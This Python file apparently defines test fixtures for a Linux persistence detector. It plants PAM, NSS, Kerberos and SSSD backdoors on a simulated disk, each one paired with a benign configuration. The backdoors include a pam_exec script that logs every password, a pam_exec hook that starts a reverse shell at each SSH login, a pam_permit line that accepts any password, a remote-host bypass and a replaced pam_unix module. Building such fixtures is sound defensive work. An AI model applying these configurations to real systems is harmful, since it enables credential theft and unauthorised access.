"""Who is let in: PAM, NSS and their neighbours: pam.conf(5), nsswitch.conf(5)."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Twin, add, both, put, shell, swap
from plantings.command import ADDRESS, BASH_BACK, program, tool
from plantings.linker import altered
from pratique.demo.disk import Disk

_GROUP: Final = "PAM, NSS, auth"
_PAM: Final = "T1556.003"
_AUTH: Final = "/etc/pam.d/common-auth"
_SSHD: Final = "/etc/pam.d/sshd"
_LIB: Final = "/usr/lib/x86_64-linux-gnu"
_MODULES: Final = f"{_LIB}/security"
_NSS: Final = "/etc/nsswitch.conf"


def _second(slug: str, what: str, path: str, text: str) -> Twin:
    return Twin(slug, what, path, add(path, text), table="file")


_NUMBER: Final = _second(
    "pam-google-authenticator",
    "a number as second proof",
    _SSHD,
    "auth required pam_google_authenticator.so nullok\n",
)
_FAILLOCK: Final = _second(
    "pam-faillock",
    "a lock after wrong passwords",
    _AUTH,
    "auth required pam_faillock.so preauth deny=5\n",
)
_NOTICE: Final = Twin(
    "pam-exec-notice",
    "a mail at each login, by an administrator's script",
    _SSHD,
    both(
        tool("/usr/local/sbin/login-notice"),
        add(_SSHD, "session optional pam_exec.so /usr/local/sbin/login-notice\n"),
    ),
)


def _replaced(disk: Disk) -> None:
    """Put another module in the place of pam_unix, and the old one beside it."""
    item = disk[f"{_MODULES}/pam_unix.so"]
    disk.file(f"{_MODULES}/pam_unix.so.bak", item.content, item.mode)
    altered(f"{_MODULES}/pam_unix.so")(disk)


CASES: Final = (
    Case(
        "pam-module-replaced",
        _GROUP,
        _PAM,
        "another pam_unix, which takes a master password",
        f"{_MODULES}/pam_unix.so",
        _replaced,
        _FAILLOCK,
        "setup_pam",
        table="file",
        timed=True,
    ),
    Case(
        "pam-exec-log",
        _GROUP,
        _PAM,
        "a script is given every password",
        _AUTH,
        both(
            put(
                "/var/log/spy.sh",
                shell(
                    'echo " $(date) $PAM_USER, $(cat -), From: $PAM_RHOST" >> /var/log/panix.log'
                ),
                0o700,
            ),
            put("/var/log/panix.log", "", 0o770),
            add(_AUTH, "auth optional pam_exec.so quiet expose_authtok /var/log/spy.sh\n"),
        ),
        _NOTICE,
        "setup_pam",
    ),
    Case(
        "pam-exec-connects",
        _GROUP,
        _PAM,
        "a script that connects back at each login",
        _SSHD,
        both(
            put(
                "/usr/bin/pam_exec_backdoor.sh",
                f"#!/bin/bash\nnohup setsid /bin/{BASH_BACK} &\n",
                0o700,
            ),
            add(_SSHD, "session optional pam_exec.so seteuid /bin/pam_exec_backdoor.sh\n"),
        ),
        _NOTICE,
        "setup_pam",
    ),
    Case(
        "pam-permit",
        _GROUP,
        _PAM,
        "any password is right",
        _AUTH,
        lambda disk: disk.prepend(_AUTH, "auth sufficient pam_permit.so\n", 0),
        _FAILLOCK,
    ),
    Case(
        "pam-rootok",
        _GROUP,
        _PAM,
        "whoever comes from there needs no password",
        _SSHD,
        lambda disk: disk.prepend(
            _SSHD, "auth sufficient pam_succeed_if.so rhost = 198.51.100.7\n", 0
        ),
        _NUMBER,
    ),
    Case(
        "pam-module-unowned",
        _GROUP,
        _PAM,
        "a module of no package",
        _AUTH,
        both(program(f"{_MODULES}/pam_audit.so"), add(_AUTH, "auth optional pam_audit.so\n")),
        _NUMBER,
    ),
    Case(
        "pam-module-elsewhere",
        _GROUP,
        _PAM,
        "a module in a hidden folder",
        "/etc/pam.d/sudo",
        both(
            program("/var/tmp/.lib/p.so"),
            put("/etc/pam.d/sudo", "auth sufficient /var/tmp/.lib/p.so\n@include common-auth\n"),
        ),
        _NUMBER,
    ),
    Case(
        "pam-conf",
        _GROUP,
        _PAM,
        "a line in the older file",
        "/etc/pam.conf",
        put("/etc/pam.conf", "sshd auth sufficient pam_permit.so\n"),
        Twin(
            "pam-conf-deny",
            "what is not named is refused",
            "/etc/pam.conf",
            put("/etc/pam.conf", "other auth required pam_deny.so\n"),
            table="file",
        ),
    ),
    Case(
        "nss-module",
        _GROUP,
        "T1556",
        "a source of accounts that no package brought",
        _NSS,
        both(
            program(f"{_LIB}/libnss_cachefs.so.2"),
            swap(_NSS, "passwd: files systemd", "passwd: files cachefs systemd"),
        ),
        Twin(
            "nss-mymachines",
            "names of containers",
            _NSS,
            swap(_NSS, "hosts: files dns", "hosts: files mymachines dns"),
        ),
    ),
    Case(
        "k5login",
        _GROUP,
        "T1556",
        "a stranger may be root",
        "/root/.k5login",
        put("/root/.k5login", "nobody@EXAMPLE.NET\n", 0o600),
        Twin(
            "k5login-own",
            "a person may log in as oneself",
            "/home/anna/.k5login",
            put("/home/anna/.k5login", "anna@HARBOUR.EXAMPLE\n", 0o600, (1000, 1000)),
        ),
    ),
    Case(
        "krb5-plugin",
        _GROUP,
        "T1556",
        "a library of no package for Kerberos",
        "/etc/krb5.conf.d/cache.conf",
        both(
            program("/usr/lib/krb5/cache.so"),
            put(
                "/etc/krb5.conf.d/cache.conf",
                "[plugins]\n kadm5_auth = {\n  module = cache:/usr/lib/krb5/cache.so\n }\n",
            ),
        ),
        Twin(
            "krb5-realm",
            "where the realm is",
            "/etc/krb5.conf",
            put("/etc/krb5.conf", "[libdefaults]\n default_realm = HARBOUR.EXAMPLE\n"),
            table="file",
        ),
    ),
    Case(
        "sssd-helper",
        _GROUP,
        "T1556",
        "passwords are asked of a stranger's machine",
        "/etc/sssd/conf.d/10-ext.conf",
        put(
            "/etc/sssd/conf.d/10-ext.conf",
            f"[domain/ext]\nid_provider = ldap\nldap_uri = ldap://{ADDRESS}\n",
            0o600,
        ),
        Twin(
            "sssd-own",
            "passwords are asked of one's own directory",
            "/etc/sssd/conf.d/10-own.conf",
            put(
                "/etc/sssd/conf.d/10-own.conf",
                "[domain/own]\nid_provider = ldap\nldap_uri = ldaps://directory.harbour.example\n",
                0o600,
            ),
            table="file",
        ),
    ),
)
